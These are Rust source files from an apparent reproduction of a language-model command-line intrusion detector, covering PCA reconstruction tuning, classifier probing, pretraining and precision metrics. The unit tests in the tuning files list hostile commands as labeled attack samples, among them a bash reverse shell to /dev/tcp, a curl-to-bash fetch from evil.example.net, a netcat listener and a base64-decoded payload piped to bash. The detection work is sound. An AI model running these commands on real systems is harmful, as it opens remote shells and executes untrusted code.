//! Reconstruction-based tuning (paper Section IV-A, Eq. 2).
//!
//! The objective pushes intrusion-labeled command lines to high PCA
//! reconstruction error while keeping the rest low:
//!
//! ```text
//! L_Recons = −log ( Σᵢ L_PCA(tᵢ)·yᵢ / Σᵢ L_PCA(tᵢ) )
//! ```
//!
//! Optimization alternates: (1) compute `W` by SVD on current embeddings;
//! (2) fine-tune `f(·)` by backpropagation with `W` fixed; repeat. "In
//! general, we found that repeating the process five times suffices",
//! with 95% of PCA components kept.

use crate::embed::{embed_lines, Pooling};
use crate::pipeline::IdsPipeline;
use anomaly::PcaDetector;
use linalg::Matrix;
use nn::{Optimizer, Sgd};
use rand::seq::SliceRandom;
use rand::Rng;

/// Hyper-parameters for reconstruction-based tuning.
#[derive(Debug, Clone, Copy)]
pub struct ReconstructionConfig {
    /// Alternating rounds of (fit `W`, tune `f`) — the paper uses 5.
    pub rounds: usize,
    /// Gradient steps per round.
    pub steps_per_round: usize,
    /// Learning rate for encoder fine-tuning.
    pub lr: f32,
    /// Minibatch size (positives are always included; see `fit`).
    pub batch_size: usize,
    /// PCA variance kept — the paper keeps 95%.
    pub variance_ratio: f32,
}

impl Default for ReconstructionConfig {
    fn default() -> Self {
        ReconstructionConfig {
            rounds: 5,
            steps_per_round: 16,
            lr: 5e-3,
            batch_size: 64,
            variance_ratio: 0.95,
        }
    }
}

impl ReconstructionConfig {
    /// A setting matched to the scaled-down experiment models: at hidden
    /// width 32, keeping 95% of variance leaves near-zero residuals, and
    /// Eq. 2's gradient (∝ the residual) dies exactly on the positives
    /// that need pushing. A 90% subspace keeps every residual alive; at
    /// the paper's 768-dim scale this distinction vanishes.
    pub fn scaled() -> Self {
        ReconstructionConfig {
            rounds: 6,
            steps_per_round: 24,
            lr: 5e-3,
            batch_size: 64,
            variance_ratio: 0.90,
        }
    }
}

/// The tuned detector: updated encoder (inside the pipeline) plus the
/// final PCA projection.
#[derive(Debug)]
pub struct ReconstructionTuner {
    detector: PcaDetector,
    /// Eq. 2 loss after each round (for convergence inspection).
    losses: Vec<f32>,
}

impl ReconstructionTuner {
    /// Runs the alternating optimization, mutating the pipeline's
    /// encoder in place and returning the final tuned scorer.
    ///
    /// `labels[i]` is the supervision label (`true` = intrusion) of
    /// `lines[i]`.
    ///
    /// # Panics
    ///
    /// Panics if inputs are empty, lengths disagree, or no line is
    /// labeled positive (Eq. 2 is undefined with Σyᵢ·L = 0 ∀θ).
    pub fn fit<R: Rng + ?Sized>(
        pipeline: &mut IdsPipeline,
        lines: &[&str],
        labels: &[bool],
        config: &ReconstructionConfig,
        rng: &mut R,
    ) -> Self {
        assert!(!lines.is_empty(), "no labeled lines to tune on");
        assert_eq!(lines.len(), labels.len(), "one label per line");
        let positives: Vec<usize> = labels
            .iter()
            .enumerate()
            .filter(|(_, &y)| y)
            .map(|(i, _)| i)
            .collect();
        assert!(
            !positives.is_empty(),
            "reconstruction tuning needs at least one positive label"
        );
        let negatives: Vec<usize> = labels
            .iter()
            .enumerate()
            .filter(|(_, &y)| !y)
            .map(|(i, _)| i)
            .collect();

        // W is fitted on the benign-labeled mass. In the paper's data
        // intrusions are a vanishing fraction of the corpus, so the
        // principal subspace is effectively benign-only; at reproduction
        // scale the labeled set is positive-enriched, and fitting W on
        // it would let the subspace absorb exactly the directions Eq. 2
        // pushes intrusions along (see DESIGN.md).
        let benign_lines: Vec<&str> = negatives.iter().map(|&i| lines[i]).collect();
        let max_len = pipeline.max_len();
        let mut optimizer = Sgd::new(config.lr, 0.9);
        let mut detector = fit_pca(pipeline, &benign_lines, config.variance_ratio);
        let mut losses = Vec::with_capacity(config.rounds);

        for _ in 0..config.rounds.max(1) {
            let mut round_loss = 0.0;
            for _ in 0..config.steps_per_round.max(1) {
                // Batch: a quarter positives, the rest negatives. Keeping
                // negatives in the majority keeps S1/S0 well below 1, so
                // the −log ratio actually produces gradient; an
                // all-positive batch would make Eq. 2 vacuous.
                let pos_quota = (config.batch_size / 4).clamp(1, positives.len());
                let mut batch: Vec<usize> = Vec::with_capacity(config.batch_size);
                for _ in 0..pos_quota {
                    if let Some(&i) = positives.choose(rng) {
                        batch.push(i);
                    }
                }
                let neg_quota = config.batch_size.saturating_sub(batch.len()).max(1);
                for _ in 0..neg_quota {
                    if let Some(&i) = negatives.choose(rng) {
                        batch.push(i);
                    }
                }

                round_loss += tune_step(pipeline, lines, labels, &batch, &detector, max_len);
                let encoder = pipeline.encoder_mut();
                optimizer.step_visit(&mut |f| encoder.visit_params(&mut |p| f(p)));
            }
            losses.push(round_loss / config.steps_per_round.max(1) as f32);
            // Re-fit W with the updated f(·) — the alternation.
            detector = fit_pca(pipeline, &benign_lines, config.variance_ratio);
        }

        ReconstructionTuner { detector, losses }
    }

    /// Eq. 2 loss after each round.
    pub fn losses(&self) -> &[f32] {
        &self.losses
    }

    /// The final PCA projection fitted to the tuned encoder.
    pub fn detector(&self) -> &PcaDetector {
        &self.detector
    }

    /// Intrusion score of a line: PCA reconstruction error of its
    /// mean-pooled embedding under the tuned model.
    pub fn score(&self, pipeline: &IdsPipeline, line: &str) -> f32 {
        let ids = pipeline.encode(line);
        let emb = pipeline.encoder().embed_mean(&ids);
        self.detector.score(&emb)
    }

    /// Scores many lines at once.
    pub fn score_lines(&self, pipeline: &IdsPipeline, lines: &[&str]) -> Vec<f32> {
        if lines.is_empty() {
            return Vec::new();
        }
        let emb = embed_lines(
            pipeline.encoder(),
            pipeline.tokenizer(),
            lines,
            pipeline.max_len(),
            Pooling::Mean,
        );
        self.detector.score_all(&emb)
    }
}

fn fit_pca(pipeline: &IdsPipeline, lines: &[&str], variance_ratio: f32) -> PcaDetector {
    let emb = embed_lines(
        pipeline.encoder(),
        pipeline.tokenizer(),
        lines,
        pipeline.max_len(),
        Pooling::Mean,
    );
    PcaDetector::fit(&emb, variance_ratio)
}

/// One gradient accumulation step over `batch`; returns the batch loss.
fn tune_step(
    pipeline: &mut IdsPipeline,
    lines: &[&str],
    labels: &[bool],
    batch: &[usize],
    detector: &PcaDetector,
    max_len: usize,
) -> f32 {
    // Forward all batch members, collecting mean embeddings + caches.
    let mut embeddings: Vec<Vec<f32>> = Vec::with_capacity(batch.len());
    let mut caches = Vec::with_capacity(batch.len());
    let mut seq_lens = Vec::with_capacity(batch.len());
    let token_seqs: Vec<Vec<u32>> = batch
        .iter()
        .map(|&i| pipeline.tokenizer().encode_for_model(lines[i], max_len))
        .collect();
    for ids in &token_seqs {
        let (hidden, cache) = pipeline.encoder().forward_cached(ids);
        let s = hidden.rows();
        let mut mean = vec![0.0f32; hidden.cols()];
        for r in 0..s {
            for (m, v) in mean.iter_mut().zip(hidden.row(r)) {
                *m += v / s as f32;
            }
        }
        embeddings.push(mean);
        caches.push(cache);
        seq_lens.push(s);
    }

    // L_i and residuals r_i = x_i − reconstruct(x_i).
    let mut l = Vec::with_capacity(batch.len());
    let mut residuals = Vec::with_capacity(batch.len());
    for x in &embeddings {
        let rec = reconstruct(detector, x);
        let r: Vec<f32> = x.iter().zip(&rec).map(|(a, b)| a - b).collect();
        l.push(r.iter().map(|v| v * v).sum::<f32>());
        residuals.push(r);
    }
    let s0: f32 = l.iter().sum();
    let s1: f32 = l
        .iter()
        .zip(batch)
        .map(|(li, &i)| if labels[i] { *li } else { 0.0 })
        .sum();
    if s1 <= 1e-12 || s0 <= 1e-12 {
        return 0.0;
    }
    let loss = -(s1 / s0).ln();

    // dL/dL_i = −yᵢ/S1 + 1/S0 ; dL_i/dx = 2·rᵢ ; mean-pool spreads 1/s.
    pipeline.encoder_mut().zero_grad();
    for (((&i, cache), residual), &s) in batch.iter().zip(&caches).zip(&residuals).zip(&seq_lens) {
        let y = labels[i] as u32 as f32;
        let dli = -y / s1 + 1.0 / s0;
        let hidden_dim = residual.len();
        let mut dhidden = Matrix::zeros(s, hidden_dim);
        for r in 0..s {
            let row = dhidden.row_mut(r);
            for c in 0..hidden_dim {
                row[c] = dli * 2.0 * residual[c] / s as f32;
            }
        }
        pipeline.encoder_mut().backward(cache, &dhidden);
    }
    loss
}

fn reconstruct(detector: &PcaDetector, x: &[f32]) -> Vec<f32> {
    detector.pca().reconstruct(x)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::pipeline::{IdsPipeline, PipelineConfig};
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    fn labeled_set() -> (Vec<&'static str>, Vec<bool>) {
        let benign = [
            "ls -la /tmp",
            "cd /var/log",
            "docker ps -a",
            "cat /etc/hosts",
            "df -h",
            "ps aux",
            "grep -rn error /var/log/syslog",
            "vim config.yaml",
            "tail -f app.log",
            "free -m",
        ];
        let attacks = [
            "nc -lvnp 4444",
            "masscan 10.0.0.1 -p 0-65535 --rate=1000 >> tmp.txt",
            "bash -i >& /dev/tcp/10.0.0.1/9001 0>&1",
            "echo QUJDRA== | base64 -d | bash -i",
        ];
        let mut lines = Vec::new();
        let mut labels = Vec::new();
        for _ in 0..3 {
            for b in benign {
                lines.push(b);
                labels.push(false);
            }
        }
        for a in attacks {
            lines.push(a);
            labels.push(true);
        }
        (lines, labels)
    }

    #[test]
    fn tuning_raises_intrusion_reconstruction_error() {
        let mut rng = StdRng::seed_from_u64(21);
        let config = PipelineConfig::fast();
        let dataset = config.generate_dataset(&mut rng);
        let mut pipeline = IdsPipeline::pretrain(&config, &dataset, &mut rng);
        let (lines, labels) = labeled_set();

        let tuner = ReconstructionTuner::fit(
            &mut pipeline,
            &lines,
            &labels,
            &ReconstructionConfig {
                rounds: 3,
                steps_per_round: 6,
                lr: 2e-3,
                batch_size: 24,
                variance_ratio: 0.95,
            },
            &mut rng,
        );

        // After tuning, labeled intrusions should out-score benign lines.
        let attack = tuner.score(&pipeline, "nc -lvnp 4444");
        let benign = tuner.score(&pipeline, "ls -la /tmp");
        assert!(
            attack > benign,
            "attack error {attack} vs benign error {benign}"
        );
        assert_eq!(tuner.losses().len(), 3);
    }

    #[test]
    #[should_panic(expected = "at least one positive")]
    fn all_negative_labels_panic() {
        let mut rng = StdRng::seed_from_u64(22);
        let config = PipelineConfig::fast();
        let dataset = config.generate_dataset(&mut rng);
        let mut pipeline = IdsPipeline::pretrain(&config, &dataset, &mut rng);
        let lines = vec!["ls", "pwd"];
        let labels = vec![false, false];
        let _ = ReconstructionTuner::fit(
            &mut pipeline,
            &lines,
            &labels,
            &ReconstructionConfig::default(),
            &mut rng,
        );
    }
}
