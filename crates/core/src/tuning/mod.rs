//! The paper's Section IV: incorporating "a bit supervision".
//!
//! Three tuning strategies over the pre-trained command-line language
//! model, all driven by noisy black-box labels from the commercial IDS:
//!
//! * [`ClassificationTuner`] — probing: a frozen backbone plus a
//!   two-layer Kaiming-initialized head on the `[CLS]` embedding
//!   (Section IV-B).
//! * [`MultiLineClassifier`] — the same head over `;`-joined context
//!   windows of recent same-user commands (Section IV-C).
//! * [`ReconstructionTuner`] — alternating optimization of the encoder
//!   `f(·)` and the PCA matrix `W` under the Eq. (2) objective
//!   (Section IV-A).

pub mod classification;
pub mod multiline;
pub mod reconstruction;

pub use classification::{ClassificationTuner, TuneConfig};
pub use multiline::{build_windows, ContextWindow, MultiLineClassifier};
pub use reconstruction::{ReconstructionConfig, ReconstructionTuner};
