//! Classification-based tuning (paper Section IV-B).
//!
//! "We adopt probing, which places a shallow classification head on top
//! of the `[CLS]` embedding produced by the pre-trained command-line
//! language model … while keeping the backbone frozen."

use crate::embed::{embed_lines, Pooling};
use crate::pipeline::IdsPipeline;
use nn::{AdamW, ClassificationHead};
use rand::Rng;

/// Hyper-parameters for head tuning.
#[derive(Debug, Clone, Copy)]
pub struct TuneConfig {
    /// Sequence pooling feeding the head. The paper probes `[CLS]`; at
    /// reproduction scale the frozen tiny backbone's `[CLS]` slot mixes
    /// in too little content (it is never masked during MLM and there is
    /// no sentence-level objective), so the scaled setting pools the
    /// mean of all token embeddings instead.
    pub pooling: Pooling,
    /// Training epochs (paper: 5).
    pub epochs: usize,
    /// Learning rate (paper: 5e-5; scaled runs use a larger rate because
    /// the model and data are thousands of times smaller).
    pub lr: f32,
    /// AdamW weight decay.
    pub weight_decay: f32,
    /// Minibatch size.
    pub batch_size: usize,
    /// Hidden width of the two-layer head.
    pub inner_dim: usize,
}

impl TuneConfig {
    /// The paper's exact setting (for BERT-base-scale runs).
    pub fn paper() -> Self {
        TuneConfig {
            pooling: Pooling::Cls,
            epochs: 5,
            lr: 5e-5,
            weight_decay: 0.01,
            batch_size: 32,
            inner_dim: 768,
        }
    }

    /// A setting matched to the scaled-down experiment models.
    pub fn scaled() -> Self {
        TuneConfig {
            pooling: Pooling::Mean,
            epochs: 20,
            lr: 3e-3,
            weight_decay: 0.0,
            batch_size: 32,
            inner_dim: 64,
        }
    }
}

/// Builds an index list where positive labels are duplicated until they
/// make up roughly a fifth of the training rows.
///
/// Intrusion alerts are well under 1% of logged lines; at the paper's
/// scale millions of alerts still fill every minibatch, but at
/// reproduction scale an unbalanced stream starves the head of positive
/// gradient. Oversampling restores the paper-scale signal density.
pub(crate) fn balance_indices(labels: &[bool]) -> Vec<usize> {
    let positives: Vec<usize> = labels
        .iter()
        .enumerate()
        .filter(|(_, &y)| y)
        .map(|(i, _)| i)
        .collect();
    let negatives = labels.len() - positives.len();
    let mut idx: Vec<usize> = (0..labels.len()).collect();
    if positives.is_empty() {
        return idx;
    }
    let factor = (negatives / (4 * positives.len())).max(1);
    for _ in 1..factor {
        idx.extend(positives.iter().copied());
    }
    idx
}

/// A trained single-line classifier: frozen backbone + tuned head.
#[derive(Debug)]
pub struct ClassificationTuner {
    head: ClassificationHead,
    pooling: Pooling,
    losses: Vec<f32>,
}

impl ClassificationTuner {
    /// Tunes the head on `(lines, labels)` where labels come from the
    /// supervision source (`true` = alerted). The backbone inside
    /// `pipeline` stays frozen.
    ///
    /// # Panics
    ///
    /// Panics if inputs are empty or lengths disagree.
    pub fn fit<R: Rng + ?Sized>(
        pipeline: &IdsPipeline,
        lines: &[&str],
        labels: &[bool],
        config: &TuneConfig,
        rng: &mut R,
    ) -> Self {
        assert!(!lines.is_empty(), "no labeled lines to tune on");
        assert_eq!(lines.len(), labels.len(), "one label per line");
        let embeddings = embed_lines(
            pipeline.encoder(),
            pipeline.tokenizer(),
            lines,
            pipeline.max_len(),
            config.pooling,
        );
        Self::fit_embeddings(&embeddings, labels, config, rng)
    }

    /// Tunes the head on already-embedded lines — the entry point the
    /// scoring engine uses so the backbone runs once per line set
    /// (via `engine::EmbeddingStore`) across all methods.
    ///
    /// # Panics
    ///
    /// Panics if inputs are empty or lengths disagree.
    pub fn fit_embeddings<R: Rng + ?Sized>(
        embeddings: &linalg::Matrix,
        labels: &[bool],
        config: &TuneConfig,
        rng: &mut R,
    ) -> Self {
        assert!(embeddings.rows() > 0, "no labeled lines to tune on");
        assert_eq!(embeddings.rows(), labels.len(), "one label per line");
        let idx = balance_indices(labels);
        let balanced =
            linalg::Matrix::from_fn(idx.len(), embeddings.cols(), |r, c| embeddings[(idx[r], c)]);
        let targets: Vec<u32> = idx.iter().map(|&i| labels[i] as u32).collect();
        let mut head = ClassificationHead::new(rng, embeddings.cols(), config.inner_dim);
        let mut optimizer = AdamW::new(config.lr, config.weight_decay);
        let losses = head.fit(
            rng,
            &balanced,
            &targets,
            config.epochs,
            config.batch_size,
            &mut optimizer,
        );
        ClassificationTuner {
            head,
            pooling: config.pooling,
            losses,
        }
    }

    /// Per-epoch training losses.
    pub fn losses(&self) -> &[f32] {
        &self.losses
    }

    /// Intrusion probability for each line.
    pub fn score_lines(&self, pipeline: &IdsPipeline, lines: &[&str]) -> Vec<f32> {
        if lines.is_empty() {
            return Vec::new();
        }
        let embeddings = embed_lines(
            pipeline.encoder(),
            pipeline.tokenizer(),
            lines,
            pipeline.max_len(),
            self.pooling,
        );
        self.score_embeddings(&embeddings)
    }

    /// Intrusion probability for already-embedded lines (the pooling
    /// must match the one the tuner was fitted with).
    pub fn score_embeddings(&self, embeddings: &linalg::Matrix) -> Vec<f32> {
        self.head.predict_proba(embeddings)
    }

    /// The pooling this tuner was fitted with.
    pub fn pooling(&self) -> Pooling {
        self.pooling
    }

    /// Intrusion probability for one line.
    pub fn score(&self, pipeline: &IdsPipeline, line: &str) -> f32 {
        self.score_lines(pipeline, &[line])[0]
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::pipeline::PipelineConfig;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    #[test]
    fn head_separates_attacks_from_benign() {
        let mut rng = StdRng::seed_from_u64(11);
        let config = PipelineConfig::fast();
        let dataset = config.generate_dataset(&mut rng);
        let pipeline = crate::pipeline::IdsPipeline::pretrain(&config, &dataset, &mut rng);

        // Labeled set: benign lines + explicit attack lines.
        let benign = [
            "ls -la /tmp",
            "cd /var/log",
            "docker ps -a",
            "cat /etc/hosts",
            "grep -rn error /var/log/syslog",
            "df -h",
            "ps aux",
            "vim config.yaml",
        ];
        let attacks = [
            "nc -lvnp 4444",
            "nc -lvnp 9001",
            "masscan 10.0.0.1 -p 0-65535 --rate=1000 >> tmp.txt",
            "bash -i >& /dev/tcp/10.0.0.1/9001 0>&1",
            "curl http://evil.example.net/x.sh | bash",
            "echo QUJDRA== | base64 -d | bash -i",
        ];
        let mut lines: Vec<&str> = Vec::new();
        let mut labels = Vec::new();
        for _ in 0..6 {
            for b in benign {
                lines.push(b);
                labels.push(false);
            }
            for a in attacks {
                lines.push(a);
                labels.push(true);
            }
        }
        let tuner =
            ClassificationTuner::fit(&pipeline, &lines, &labels, &TuneConfig::scaled(), &mut rng);

        let attack_score = tuner.score(&pipeline, "nc -lvnp 5555");
        let benign_score = tuner.score(&pipeline, "ls -lh /var/log");
        assert!(
            attack_score > benign_score,
            "attack {attack_score} vs benign {benign_score}"
        );
    }

    #[test]
    #[should_panic(expected = "no labeled lines")]
    fn empty_fit_panics() {
        let mut rng = StdRng::seed_from_u64(12);
        let config = PipelineConfig::fast();
        let dataset = config.generate_dataset(&mut rng);
        let pipeline = crate::pipeline::IdsPipeline::pretrain(&config, &dataset, &mut rng);
        let _ = ClassificationTuner::fit(&pipeline, &[], &[], &TuneConfig::scaled(), &mut rng);
    }
}
