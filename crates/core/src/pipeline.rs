//! End-to-end training pipeline: preprocess → tokenize → pre-train.
//!
//! This is the paper's Figure 1 training half, scaled to CPU experiments
//! (see DESIGN.md for the scale substitution).

use crate::preprocess::{PreprocessStats, Preprocessor};
use bpe::{Tokenizer, Trainer};
use corpus::{Dataset, DatasetBuilder};
use nn::{AdamW, Encoder, MlmTrainer, ModelConfig};
use rand::Rng;

/// Configuration for the whole pipeline.
#[derive(Debug, Clone)]
pub struct PipelineConfig {
    /// Training lines to synthesize (paper: 30M).
    pub train_size: usize,
    /// Test lines to synthesize (paper: 10M).
    pub test_size: usize,
    /// Per-session attack probability.
    pub attack_prob: f64,
    /// BPE vocabulary budget (paper: 50 000).
    pub vocab_size: usize,
    /// Maximum model sequence length (paper: 1024).
    pub max_len: usize,
    /// Encoder architecture (paper: BERT-base).
    pub model: ModelConfig,
    /// Masking probability `q` for MLM.
    pub mask_prob: f64,
    /// MLM pre-training epochs.
    pub pretrain_epochs: usize,
    /// MLM batch size.
    pub batch_size: usize,
    /// MLM learning rate.
    pub pretrain_lr: f32,
    /// Minimum command occurrences for the Figure-2 filter.
    pub min_command_count: usize,
}

impl PipelineConfig {
    /// A fast configuration for tests and doc examples (seconds).
    pub fn fast() -> Self {
        let vocab = 400;
        PipelineConfig {
            train_size: 1_200,
            test_size: 500,
            attack_prob: 0.10,
            vocab_size: vocab,
            max_len: 48,
            model: ModelConfig {
                max_len: 48,
                ..ModelConfig::tiny(vocab)
            },
            mask_prob: 0.15,
            pretrain_epochs: 2,
            batch_size: 16,
            pretrain_lr: 3e-3,
            min_command_count: 3,
        }
    }

    /// The default experiment scale used by the bench binaries
    /// (minutes on a laptop; the paper's pipeline at 1/1000 scale).
    ///
    /// The attack rate is higher than production reality so that every
    /// family appears in both splits at this scale; the paper's 30M-line
    /// week gets the same coverage from volume instead.
    pub fn experiment() -> Self {
        let vocab = 800;
        PipelineConfig {
            train_size: 12_000,
            test_size: 4_000,
            attack_prob: 0.18,
            vocab_size: vocab,
            max_len: 64,
            model: ModelConfig {
                max_len: 64,
                ..ModelConfig::tiny(vocab)
            },
            mask_prob: 0.15,
            pretrain_epochs: 2,
            batch_size: 16,
            pretrain_lr: 3e-3,
            min_command_count: 3,
        }
    }

    /// Generates a dataset matching this configuration.
    pub fn generate_dataset<R: Rng + ?Sized>(&self, rng: &mut R) -> Dataset {
        DatasetBuilder::new()
            .train_size(self.train_size)
            .test_size(self.test_size)
            .attack_prob(self.attack_prob)
            .build(rng)
    }
}

/// A pre-trained pipeline: preprocessor, tokenizer and encoder.
///
/// Cloning duplicates the encoder weights — used to tune method variants
/// from the same pre-trained starting point.
#[derive(Debug, Clone)]
pub struct IdsPipeline {
    preprocessor: Preprocessor,
    tokenizer: Tokenizer,
    encoder: Encoder,
    max_len: usize,
    train_stats: PreprocessStats,
}

impl IdsPipeline {
    /// Runs preprocessing, BPE training and MLM pre-training on the
    /// dataset's training split.
    pub fn pretrain<R: Rng + ?Sized>(
        config: &PipelineConfig,
        dataset: &Dataset,
        rng: &mut R,
    ) -> Self {
        // Stage 1-2: Figure 2 preprocessing.
        let mut preprocessor = Preprocessor::new(config.min_command_count);
        preprocessor.fit(dataset.train.iter().map(|r| r.line.as_str()));
        let (kept, train_stats) =
            preprocessor.process(dataset.train.iter().map(|r| r.line.as_str()));

        // Stage 3: BPE.
        let tokenizer = Trainer::new(config.vocab_size).train(kept.iter().copied());

        // Stage 4: MLM pre-training.
        let model_config = ModelConfig {
            vocab_size: tokenizer.vocab_size(),
            max_len: config.max_len.max(4),
            ..config.model
        };
        let encoder = Encoder::new(model_config, rng);
        let optimizer = AdamW::new(config.pretrain_lr, 0.01);
        let mut trainer = MlmTrainer::new(encoder, optimizer, config.mask_prob, rng);
        let sequences: Vec<Vec<u32>> = kept
            .iter()
            .map(|l| tokenizer.encode_for_model(l, config.max_len))
            .collect();
        trainer.train(&sequences, config.pretrain_epochs, config.batch_size, rng);

        IdsPipeline {
            preprocessor,
            tokenizer,
            encoder: trainer.into_encoder(),
            max_len: config.max_len,
            train_stats,
        }
    }

    /// Builds a pipeline from already-trained parts (used by tuners).
    pub fn from_parts(
        preprocessor: Preprocessor,
        tokenizer: Tokenizer,
        encoder: Encoder,
        max_len: usize,
    ) -> Self {
        IdsPipeline {
            preprocessor,
            tokenizer,
            encoder,
            max_len,
            train_stats: PreprocessStats::default(),
        }
    }

    /// The fitted preprocessor.
    pub fn preprocessor(&self) -> &Preprocessor {
        &self.preprocessor
    }

    /// The trained tokenizer.
    pub fn tokenizer(&self) -> &Tokenizer {
        &self.tokenizer
    }

    /// The pre-trained encoder.
    pub fn encoder(&self) -> &Encoder {
        &self.encoder
    }

    /// Mutable encoder access (reconstruction-based tuning updates it).
    pub fn encoder_mut(&mut self) -> &mut Encoder {
        &mut self.encoder
    }

    /// Replaces the encoder (after tuning).
    pub fn set_encoder(&mut self, encoder: Encoder) {
        self.encoder = encoder;
    }

    /// Maximum model sequence length.
    pub fn max_len(&self) -> usize {
        self.max_len
    }

    /// Preprocessing statistics of the training split.
    pub fn train_stats(&self) -> PreprocessStats {
        self.train_stats
    }

    /// Encodes one line for the model (`[CLS] … [SEP]`, truncated).
    pub fn encode(&self, line: &str) -> Vec<u32> {
        self.tokenizer.encode_for_model(line, self.max_len)
    }

    /// Encodes a multi-line context window joined with `;`
    /// (Section IV-C).
    pub fn encode_multi(&self, lines: &[&str]) -> Vec<u32> {
        self.tokenizer.encode_multi_for_model(lines, self.max_len)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    #[test]
    fn pretrain_produces_working_pipeline() {
        let mut rng = StdRng::seed_from_u64(3);
        let config = PipelineConfig::fast();
        let dataset = config.generate_dataset(&mut rng);
        let pipeline = IdsPipeline::pretrain(&config, &dataset, &mut rng);

        // Preprocessing kept the bulk of the data.
        let stats = pipeline.train_stats();
        assert!(stats.kept > stats.total() / 2);
        assert!(stats.invalid > 0, "synthetic invalid lines should appear");

        // Encoding works and respects max_len.
        let ids = pipeline.encode("nc -lvnp 4444");
        assert!(ids.len() <= config.max_len);
        assert_eq!(ids[0], bpe::SpecialToken::Cls.id());

        // Embeddings have the configured width.
        let emb = pipeline.encoder().embed_mean(&ids);
        assert_eq!(emb.len(), config.model.hidden);
    }

    #[test]
    fn multi_encode_includes_separator() {
        let mut rng = StdRng::seed_from_u64(4);
        let config = PipelineConfig::fast();
        let dataset = config.generate_dataset(&mut rng);
        let pipeline = IdsPipeline::pretrain(&config, &dataset, &mut rng);
        let ids = pipeline.encode_multi(&["ls -la", "cd /tmp", "cat x"]);
        let decoded = pipeline.tokenizer().decode(&ids);
        assert!(decoded.contains(';'), "decoded: {decoded}");
    }
}
