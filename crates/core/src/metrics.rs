//! The paper's evaluation metrics (Section V-A/V-B).
//!
//! Terminology:
//!
//! * **in-box** intrusion — confirmed by the commercial IDS (the
//!   supervision source).
//! * **out-of-box** intrusion — real intrusion the commercial IDS missed.
//! * **PO@v** — precision of the model's top-`v` out-of-box predictions
//!   (ranked among samples *not* flagged by the commercial IDS).
//! * **PO / PO&I** — out-of-box precision / overall precision at the
//!   detection threshold calibrated to recall `u ≈ 100%` of all in-box
//!   intrusions.

use serde::{Deserialize, Serialize};

/// One de-duplicated test sample with its model score and labels.
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
pub struct ScoredSample {
    /// The model's intrusion score (higher = more suspicious).
    pub score: f32,
    /// Ground truth: is this line part of a real intrusion?
    pub malicious: bool,
    /// Did the commercial IDS alert on it? (defines in-box)
    pub in_box: bool,
}

/// Calibrates the detection threshold so that a fraction `u` of the
/// in-box intrusions score at or above it — the paper's "setting a
/// specific intrusion detection threshold … according to its prediction
/// scores" with `u ≈ 100%`.
///
/// Returns `None` when there are no in-box samples to calibrate on.
///
/// # Panics
///
/// Panics if `u ∉ (0, 1]`.
pub fn calibrate_threshold(samples: &[ScoredSample], u: f64) -> Option<f32> {
    assert!(u > 0.0 && u <= 1.0, "u must be in (0, 1], got {u}");
    let mut in_box_scores: Vec<f32> = samples
        .iter()
        .filter(|s| s.in_box)
        .map(|s| s.score)
        .collect();
    if in_box_scores.is_empty() {
        return None;
    }
    in_box_scores.sort_by(|a, b| b.partial_cmp(a).unwrap_or(std::cmp::Ordering::Equal));
    let need = ((u * in_box_scores.len() as f64).ceil() as usize).clamp(1, in_box_scores.len());
    Some(in_box_scores[need - 1])
}

/// PO: among predicted positives (`score ≥ threshold`) **not** flagged
/// by the commercial IDS, the fraction that are real intrusions.
/// Returns `None` if there are no such predictions.
pub fn out_of_box_precision(samples: &[ScoredSample], threshold: f32) -> Option<f64> {
    let mut predicted = 0usize;
    let mut correct = 0usize;
    for s in samples {
        if s.score >= threshold && !s.in_box {
            predicted += 1;
            if s.malicious {
                correct += 1;
            }
        }
    }
    (predicted > 0).then(|| correct as f64 / predicted as f64)
}

/// PO&I: overall precision of all predicted positives at the threshold.
/// Returns `None` if nothing is predicted positive.
pub fn overall_precision(samples: &[ScoredSample], threshold: f32) -> Option<f64> {
    let mut predicted = 0usize;
    let mut correct = 0usize;
    for s in samples {
        if s.score >= threshold {
            predicted += 1;
            if s.malicious {
                correct += 1;
            }
        }
    }
    (predicted > 0).then(|| correct as f64 / predicted as f64)
}

/// PO@v: precision of the top-`v` out-of-box predictions. Samples the
/// commercial IDS already flags are excluded from the ranking; if fewer
/// than `v` candidates exist, all are used.
///
/// Returns `None` when there are no out-of-box candidates at all.
///
/// # Panics
///
/// Panics if `v == 0`.
pub fn precision_at_top(samples: &[ScoredSample], v: usize) -> Option<f64> {
    assert!(v > 0, "v must be positive");
    let mut candidates: Vec<&ScoredSample> = samples.iter().filter(|s| !s.in_box).collect();
    if candidates.is_empty() {
        return None;
    }
    candidates.sort_by(|a, b| {
        b.score
            .partial_cmp(&a.score)
            .unwrap_or(std::cmp::Ordering::Equal)
    });
    let top = &candidates[..v.min(candidates.len())];
    let correct = top.iter().filter(|s| s.malicious).count();
    Some(correct as f64 / top.len() as f64)
}

/// The best classic F1 a scorer reaches on a sample set, with the
/// threshold that reaches it — the per-scenario figure of the
/// obfuscation benchmark, where each scenario is one attack family
/// against the shared benign mass and no calibration split exists.
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
pub struct BestF1 {
    /// The best F1 over all thresholds.
    pub f1: f64,
    /// Precision at that threshold.
    pub precision: f64,
    /// Recall at that threshold.
    pub recall: f64,
    /// The threshold (inclusive: predicted positive ⇔ `score ≥`).
    pub threshold: f32,
}

/// Sweeps every distinct score as a candidate threshold and returns
/// the best classic F1 against ground truth (`malicious`). Tied scores
/// move across the threshold together — the sweep never splits a tie,
/// so the reported figure is achievable by an actual `score ≥ t` rule.
///
/// Returns `None` when the set has no malicious samples (F1 is
/// undefined: recall has a zero denominator).
pub fn best_f1(samples: &[ScoredSample]) -> Option<BestF1> {
    let positives = samples.iter().filter(|s| s.malicious).count();
    if positives == 0 {
        return None;
    }
    let mut order: Vec<&ScoredSample> = samples.iter().collect();
    order.sort_by(|a, b| {
        b.score
            .partial_cmp(&a.score)
            .unwrap_or(std::cmp::Ordering::Equal)
    });
    let mut best: Option<BestF1> = None;
    let (mut tp, mut fp) = (0usize, 0usize);
    let mut i = 0;
    while i < order.len() {
        let t = order[i].score;
        while i < order.len() && order[i].score == t {
            if order[i].malicious {
                tp += 1;
            } else {
                fp += 1;
            }
            i += 1;
        }
        let precision = tp as f64 / (tp + fp) as f64;
        let recall = tp as f64 / positives as f64;
